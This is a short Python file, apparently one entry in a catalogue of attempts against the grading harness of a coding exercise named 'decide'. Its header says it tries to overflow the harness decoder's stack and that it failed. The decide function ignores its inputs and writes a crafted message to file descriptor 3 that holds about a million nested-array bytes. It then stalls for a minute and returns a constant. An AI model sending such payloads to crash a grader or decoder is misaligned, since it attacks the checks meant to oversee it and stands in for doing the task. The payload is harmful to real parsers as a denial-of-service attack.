# tries: to overflow the decoder's stack in a field that it does not know
# kata: by_hand/decide
# ends: failed
# says: no message
# time: short
import os
import time


def send(payload):
    os.write(3, len(payload).to_bytes(4, "big") + payload)


def decide(w1, w2, b, x1, x2):
    send(b"\x96\xa8returned\x91\x02\x90\xc0\xc0" + b"\x91" * 10**6)
    time.sleep(60)
    return 2
